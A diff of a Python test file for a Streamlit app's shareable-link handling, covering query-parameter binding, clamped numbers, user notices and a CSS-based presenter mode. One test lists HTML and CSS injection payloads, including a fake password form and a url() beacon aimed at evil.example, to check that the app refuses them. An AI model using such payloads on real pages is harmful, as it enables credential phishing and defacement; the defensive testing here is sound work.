@@ -11,14 +11,25 @@ SCRIPT = f"""
 import sys
 sys.path.insert(0, {str(ROOT)!r})
 import streamlit as st
-from ui.frame import notice_dropped_url_values, presenter_sidebar, url_state
+from ui import bound as b
+from ui.frame import (
+    notice_unusable_link_values, presenter_controls, presenter_toggle, url_state
+)
 before = url_state()
-presenter_sidebar("ex_")
-st.select_slider("n", options=[101, 201], value=101, key="ex_n", bind="query-params")
-st.multiselect("f", ["relu", "elu"], default=["relu"], key="ex_fns", bind="query-params",
-               format_func=str.upper)
-notice_dropped_url_values(before, "ex_")
+b.start_run()
+panel, presenting = presenter_toggle(st.sidebar.container())
+b.bound(st.select_slider, "n", options=[101, 201], value=101, key="ex_n")
+b.bound(st.multiselect, "f", ["relu", "elu"], default=["relu"], key="ex_fns",
+        format_func=str.upper)
+b.bound(st.number_input, "Digit", 0, 9999, 0, key="ex_digit")
+refused = presenter_controls(panel, presenting, "ex_")
+notice_unusable_link_values(before, "ex_", refused)
 """
+
+
+def toast_text(at: AppTest) -> str:
+    """The notice as a reader sees it (the Markdown escapes removed)."""
+    return at.toast[0].proto.body.replace("\\", "")
 
 
 def test_share_link_keeps_repeated_keys():
@@ -36,8 +47,10 @@ def test_unusable_link_values_are_named_in_a_notice():
     assert not at.exception
     assert at.select_slider(key="ex_n").value == 101
     assert at.multiselect(key="ex_fns").value == ["elu"]
-    message = at.toast[0].proto.body
-    assert "ex_n=abc" in message and "ex_fns=nope" in message and "ELU" not in message
+    message = toast_text(at)
+    # Named by the labels on screen, not the internal keys.
+    assert "n: “abc”" in message and "f: “nope”" in message and "ELU" not in message
+    assert "ex_n" not in message
 
 
 def test_valid_links_give_no_notice():
@@ -59,3 +72,48 @@ def test_presenter_mode_hides_the_listed_controls_with_css():
     assert "font-size: 21px" in styles
     at.toggle(key="present").set_value(False).run()
     assert not at.get("html")
+
+
+def test_out_of_range_and_infinite_numbers_are_clamped_with_a_notice():
+    cases = [("inf", 9999), ("-inf", 0), ("1" * 150, 9999), ("1e400", 9999), ("1" * 309, 0)]
+    for given, expected in cases:  # 309 digits is over the length limit: refused, default
+        at = AppTest.from_string(SCRIPT, default_timeout=30)
+        at.query_params["ex_digit"] = given
+        at.run()
+        assert not at.exception, given
+        assert at.number_input(key="ex_digit").value == expected
+        assert "Digit:" in toast_text(at)
+        assert "set to" in toast_text(at) or "refused" in toast_text(at)
+
+
+def test_a_key_no_control_reads_is_named_in_the_notice():
+    at = AppTest.from_string(SCRIPT, default_timeout=30)
+    at.query_params["ex_range"] = "abc"
+    at.run()
+    assert "“ex_range” is not a setting of this view" in toast_text(at)
+
+
+def test_hide_offers_the_controls_by_label_on_the_first_run():
+    at = AppTest.from_string(SCRIPT, default_timeout=30)
+    at.run()
+    (hide,) = [m for m in at.multiselect if m.label == "Hide these controls while presenting"]
+    assert hide.options == ["n", "f", "Digit"]
+
+
+def test_hide_accepts_only_this_pages_control_keys():
+    payloads = [
+        "</style><form action=https://evil.example><input name=pw type=password>",
+        "x{} [data-testid=stMain]{display:none} .y",
+        "ex_n{background:url(https://evil.example/x.png)}",
+        "ex_nope",
+    ]
+    at = AppTest.from_string(SCRIPT, default_timeout=30)
+    at.query_params["present"] = "true"
+    at.query_params["hide"] = ["ex_digit", *payloads]
+    at.run()
+    styles = " ".join(element.proto.body for element in at.get("html"))
+    assert ".st-key-ex_digit { display: none !important; }" in styles
+    for bad in ("form", "input", "=stMain]", "url(", "ex_nope", "ex_n{"):
+        assert bad not in styles
+    assert at.query_params["hide"] in ("ex_digit", ["ex_digit"])
+    assert "is not a control of this view" in toast_text(at)
